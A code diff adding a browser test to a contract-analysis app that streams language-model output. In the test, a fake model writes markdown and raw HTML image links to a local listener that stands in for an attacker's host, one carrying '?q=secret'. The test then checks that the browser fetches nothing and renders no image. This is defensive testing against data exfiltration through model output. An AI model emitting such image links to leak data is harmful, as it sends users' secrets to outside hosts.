@@ -10,7 +10,7 @@ import time
 from devtools.fake_upstream import Script
 from lib.analysis.samples import all_samples
 from lib.runs.run_log import RunLog
-from tests.browser.conftest import wait_for_app
+from tests.browser.conftest import wait_for_app, wait_idle
 
 QUOTE = "principal  place of business is located at 2003 Navasota Cove"
 
@@ -108,3 +108,42 @@ def test_stop_ends_the_running_request(page, streamlit_app, upstream):
     assert upstream.wait_for_disconnect(5.0, record), "the upstream never saw the disconnect"
     page.get_by_text("Unfinished batches").wait_for(timeout=15_000)
     assert len(upstream.streams()) == 1, "Stop must not start the next contract"
+
+
+def test_an_opened_cell_fetches_nothing_the_model_wrote(page, streamlit_app, upstream, recorder):
+    """A batch's model writes an image and a raw tag into a section; the analyst opens the cell.
+    The listener standing in for the attacker's host sees no request."""
+    port, seen = recorder
+    tokens = report_tokens()
+    tokens[3] = (
+        f'- Found: yes — clause 1 "{QUOTE}"\n'
+        f"- See ![x](http://127.0.0.1:{port}/p.png?q=secret) and "
+        f'<img src="http://127.0.0.1:{port}/raw.png">\n'
+    )
+    tokens.append(f"### Extra ![h](http://127.0.0.1:{port}/h.png) — RED\n")
+    upstream.default = Script(tokens=tokens, delay=0.01, dialect="ollama")
+    url = streamlit_app(OLLAMA_HOST=upstream.url)
+    open_portfolio(page, url)
+    page.locator(".st-key-pf_run button").click()
+    # The batch has ended and the page has redrawn its grid for the finished batch.
+    page.get_by_text("5 of 5 runs").wait_for(timeout=60_000)
+    page.get_by_text("Findings grid").wait_for(timeout=30_000)
+    wait_idle(page)
+    page.locator('[data-testid="glide-cell-7-0"]').first.wait_for(state="attached", timeout=15_000)
+    grid = page.locator('[data-testid="stDataFrame"]').first
+    grid.scroll_into_view_if_needed()
+    box = grid.bounding_box()
+    page.mouse.click(box["x"] + 40, box["y"] + 35 + 17)
+    wait_idle(page)
+    for _ in range(7):
+        page.keyboard.press("ArrowRight")
+    page.get_by_text("Quote found in the contract:").wait_for(timeout=30_000)
+    wait_idle(page)
+    # Whatever images the passage holds have been asked for once the browser has them all.
+    page.wait_for_function("() => Array.from(document.images).every(i => i.complete)")
+
+    assert seen == [], f"the browser fetched {seen}"
+    body = page.locator('[data-testid="stMainBlockContainer"]')
+    assert body.locator("img").count() == 0
+    assert "x (image not loaded: " in body.inner_text()
+    assert f'<img src="http://127.0.0.1:{port}/raw.png">' in body.inner_text()
